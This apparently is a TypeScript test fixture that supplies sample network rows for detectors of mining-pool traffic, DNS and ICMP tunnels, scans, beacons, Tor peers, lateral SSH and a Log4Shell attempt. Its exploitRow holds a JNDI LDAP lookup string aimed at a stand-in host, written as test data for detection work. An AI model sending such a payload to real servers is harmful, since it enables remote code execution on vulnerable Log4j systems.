// Rows of the wire made of literals, for tests of detectors.

import type {
  Beacon,
  Download,
  Exploit,
  ListedConversation,
  LoginTries,
  RemoteServices,
  Scan,
  ServerCall,
  Stratum,
  WireRow,
} from '../src/core/facts/wire.ts'
import type { EchoTunnel, EncryptedShape, HiddenPeer, NameTunnel, SeenName } from '../src/core/facts/wire-encrypted.ts'
import { instantOf } from '../src/core/instant.ts'

export const someWireRow: WireRow = {
  conversation: 'connection:tcp/192.0.2.1:50000-198.51.100.1:3333',
  client: { address: '192.0.2.1', port: 50_000 },
  server: { address: '198.51.100.1', port: 3333 },
  via: [],
  frame: 'test.pcap#1',
  at: instantOf(1_700_000_000_000)!,
}

export function stratumRow(row: Partial<Stratum> = {}): Stratum {
  return {
    ...someWireRow,
    dialect: 'cryptonote',
    pool: '',
    wallets: [],
    login: '',
    password: '',
    worker: '',
    agent: '',
    algorithms: [],
    miners: 0,
    jobs: 0,
    submitted: 0,
    accepted: 0,
    rejected: 0,
    isRecited: false,
    verbs: [],
    last: someWireRow.at,
    lines: [],
    ...row,
  }
}

export function listedRow(row: Partial<ListedConversation> = {}): ListedConversation {
  return {
    ...someWireRow,
    transport: 'tcp',
    protocol: '',
    indicator: { value: '198.51.100.1:3333', kind: 'pool', source: 'test list' },
    answered: true,
    packets: 9,
    bytes: 900,
    seconds: 30,
    ...row,
  }
}

/** A miner of Monero over TLS 1.3 without a name. */
export function encryptedRow(row: Partial<EncryptedShape> = {}, rhythm: Partial<EncryptedShape['rhythm']> = {}): EncryptedShape {
  return {
    ...someWireRow,
    tls: { version: '1.3', name: '', isEncrypted: false, protocols: [], ja3: '', ja3s: '', ja4: '' },
    rhythm: {
      records: 200,
      seconds: 900,
      asked: 90,
      sizes: [246, 119],
      few: 1,
      reply: 80,
      replied: 1,
      pushes: 20,
      push: 393,
      pushesAlike: 1,
      spacing: 11,
      scatter: 0.98,
      acknowledging: 0,
      pushesAnswered: 0,
      bytesPerMinute: 2000,
      ...rhythm,
    },
    ...row,
  }
}

export function nameRow(row: Partial<SeenName> = {}): SeenName {
  const indicator = { value: 'pool.example', kind: 'pool', source: 'test list' } as const
  return { ...someWireRow, how: 'dns', name: 'eu.pool.example', addresses: ['198.51.100.1'], indicator, protocols: [], ...row }
}

export function nameTunnelRow(row: Partial<NameTunnel> = {}): NameTunnel {
  const counts = { queries: 60, sent: 6000, received: 12_000, types: [10], seconds: 20 }
  return { ...someWireRow, domain: 'pirate.example', excerpt: 'laegpumiplhh.pirate.example', ...counts, ...row }
}

export function echoRow(row: Partial<EchoTunnel> = {}): EchoTunnel {
  return { ...someWireRow, packets: 100, changed: 40, bytes: 40_000, excerpt: 'E\0\0T', ...row }
}

export function exploitRow(row: Partial<Exploit> = {}): Exploit {
  return {
    ...someWireRow,
    patch: 'log4shell',
    cve: ['CVE-2021-44228'],
    product: 'Apache Log4j 2',
    protocol: 'http',
    confidence: 'strict',
    techniques: ['T1190'],
    says: { zh: '执行代码', en: 'runs code' },
    target: 'GET http://app.example/',
    excerpt: 'User-Agent: jndi:ldap://203.0.113.5:1389/a',
    answer: '',
    calls: [],
    ...row,
  }
}

export function serverCallRow(row: Partial<ServerCall> = {}): ServerCall {
  return { ...someWireRow, transport: 'tcp', protocol: '', answered: true, ...row }
}

export function loginRow(row: Partial<LoginTries> = {}): LoginTries {
  return { ...someWireRow, service: 'ssh', users: [], refused: 0, accepted: false, ...row }
}

export function scanRow(row: Partial<Scan> = {}): Scan {
  return { ...someWireRow, shape: 'horizontal', ports: [22], hosts: 40, doors: 40, opened: 2, last: someWireRow.at, ...row }
}

export function downloadRow(row: Partial<Download> = {}): Download {
  return {
    ...someWireRow,
    url: 'http://files.example.org/app',
    agent: 'curl/8.0',
    receiver: '192.0.2.1',
    kind: 'elf',
    size: 4096,
    whole: true,
    sha256: '0'.repeat(64),
    entropy: 5,
    packer: '',
    miner: [],
    ...row,
  }
}

export function beaconRow(row: Partial<Beacon> = {}): Beacon {
  return { ...someWireRow, protocol: '', visits: 30, interval: 60, seconds: 1800, bytes: 700, score: 0.9, ...row }
}

export function hiddenRow(row: Partial<HiddenPeer> = {}): HiddenPeer {
  return { ...someWireRow, means: 'tor', sign: 'onion', name: 'expyuzz4wqqyqhjn.onion:80', ...row }
}

export function remoteRow(row: Partial<RemoteServices> = {}): RemoteServices {
  const hosts = Array.from({ length: 12 }, (_, i) => `10.0.0.${20 + i}`)
  const client = { address: '10.0.0.5', port: 50_000 }
  return { ...someWireRow, client, service: 'ssh', hosts, reached: hosts.length, sessions: 12, habitual: 0, seconds: 300, ...row }
}
